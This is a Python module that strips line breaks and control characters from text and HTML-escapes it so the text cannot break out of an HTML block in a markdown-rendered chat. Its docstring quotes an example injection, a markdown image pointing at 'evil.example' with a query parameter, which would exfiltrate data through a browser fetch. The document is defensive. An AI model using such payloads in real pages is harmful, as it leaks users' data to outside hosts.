"""Text from articles, models and users, made safe to put in the page's HTML: on one line, then escaped.

The chat renders each message as markdown, in which our replies are one HTML block
(`<div class="answer">...</div>`). Markdown leaves an HTML block alone only until a blank
line; after that it is markdown again, where `![x](http://evil.example/?q=...)` makes the
browser fetch that address and our own tags turn into text. So no line break may reach a
message from the text we put in it, and a line break comes in more forms than "\\n":
the browser's markdown (marked) ends a line at "\\r", and Gradio's server side cleans every
message with inspect.cleandoc, which splits lines as str.splitlines does, at "\\v", "\\f",
"\\x1c"-"\\x1e", "\\x85", "\\u2028" and "\\u2029" too:

    escape_text("Rates rose.\\r\\r![x](http://evil.example/)") -> "Rates rose.  ![x](http://evil.example/)"

On one line, inside the block, the image is inert text.
"""

from __future__ import annotations

from html import escape

# Each C0 and C1 control (tab, line feed, carriage return, \v, \f, \x1c-\x1f and \x85 among them), DEL, and the
# Unicode line and paragraph separators: every character that may end a line somewhere between us and the page.
_CONTROLS = dict.fromkeys([*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029], " ")


def one_line(text: str) -> str:
    """`text` with each control character and line separator replaced by a space, one for one (offsets still hold)."""
    return text.translate(_CONTROLS)


def escape_text(text: str) -> str:
    """`text` on one line and escaped for HTML, quotes included, so it may also stand in an attribute."""
    return escape(one_line(text))


def flat_text(text: str) -> str:
    """`text` escaped on one line, its runs of spaces squeezed to one: "a \\r\\n b" -> "a b"."""
    return escape(" ".join(one_line(text).split()))
